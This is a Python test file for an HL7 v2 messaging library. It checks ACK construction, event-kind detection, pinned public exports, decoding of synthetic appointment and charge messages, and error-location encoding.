def test_ack_for_garbage_uses_defaults(original: bytes) -> None:
    ack = build_ack(original, "AR", "not HL7", control_id="C9", now=NOW)
    segments = ack.split(b"\r")
    assert segments[0].startswith(b"MSH|^~\\&|")
    assert segments[1].startswith(b"MSA|AR|")
    assert segments[2] == b"ERR|||207^Application internal error^HL70357|E||||not HL7"


def test_ack_speaks_standard_delimiters_and_the_original_charset() -> None:
    odd = b"MSH$%~\\&$APP%X$FAC$ME$HERE$20260101$$SIU%S15$C%7$P$2.5$$$$$$8859/1\rSCH$$A1"
    ack = build_ack(odd, "AE", "café", now=NOW, control_id="K")
    assert ack.startswith(b"MSH|^~\\&|ME|HERE|APP^X|FAC|")
    assert b"|ACK^S15^ACK|K|P|2.5||||||8859/1\r" in ack
    assert b"MSA|AE|C%7|caf\xe9\r" in ack


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (hl7b(*BOOK), "appointment.book"),
        (hl7b(msh("SIU^S26"), SCH), "appointment.no_show"),
        (hl7b(msh("DFT^P03")), "appointment.post_charges"),
        (hl7b(msh("ADT^A08")), "visit.register"),
        (hl7b(msh("ORU^R01")), ""),
        (mllp_frame(hl7b(*BOOK)), "appointment.book"),
        (b"\x00\x01", ""),
        (b"", ""),
        (b"MSH", ""),
    ],
)
def test_event_kind(data: bytes, kind: str) -> None:
    assert event_kind(data) == kind


def test_public_api_is_pinned() -> None:
    assert set(hl7v2.__all__) == {
        *("BAD_CHARSET", "BAD_ENCODING", "BAD_VALUE", "CODES", "MALFORMED", "MISSING_FIELD"),
        *("MISSING_ID", "MISSING_SEGMENT", "TOO_LARGE", "UNSUPPORTED_EVENT"),
        *("UNSUPPORTED_MESSAGE", "UNSUPPORTED_VERSION", "Frame", "Hl7Error", "MllpReader"),
        *("build_ack", "decode_hl7", "event_kind", "mllp_frame", "split_messages"),
    }


def test_bench_messages_decode() -> None:
    (book,) = decode_hl7(synthetic_siu())
    assert (book.kind, book.entity, len(book.payload.providers)) == (
        "appointment.book",
        "HOSP:A1001",
        2,
    )
    (charges,) = decode_hl7(dft_message())
    assert [line.amount for line in charges.payload.lines] == ["4200.00", "2899.50", "49.00"]
    figures = run_ingest(seconds=0.01)
    assert figures["siu_per_s"] > 0
    assert figures["dft_per_s"] > 0


def test_blank_lines_do_not_count_as_segments() -> None:
    lines = [*BOOK[:3], *([""] * 3000), *BOOK[3:]]
    assert one(hl7b(*lines)) == one(hl7b(*BOOK))
    bad = [*lines[:-1], BOOK[-1].replace("AIP", "aip")]
    refused(hl7b(*bad), "malformed", f"line {len(bad)}")  # real line numbers


def test_ack_locations_and_codes() -> None:
    def err_segment(**kw: str) -> bytes:
        return build_ack(hl7b(*BOOK), "AR", "x", control_id="C", now=NOW, **kw).split(b"\r")[2]

    assert err_segment(error_location="MSH-12", reason_code="unsupported_version") == (
        b"ERR||MSH^1^12|203^Unsupported version id^HL70357|E||||x"
    )
    assert err_segment(error_location="FT1^2^6").startswith(b"ERR||FT1^2^6|207^")
    assert err_segment(error_location="PID-5.1.2").startswith(b"ERR||PID^1^5^1^1^2|")
    assert err_segment(error_location="byte 12|x").startswith(b"ERR|||207^")
    v21 = build_ack(hl7b(msh(version="2.1"), SCH), "AR", "old", control_id="C", now=NOW)
    assert v21.split(b"\r")[0].endswith(b"|ACK^S12^ACK|C|P|2.1")
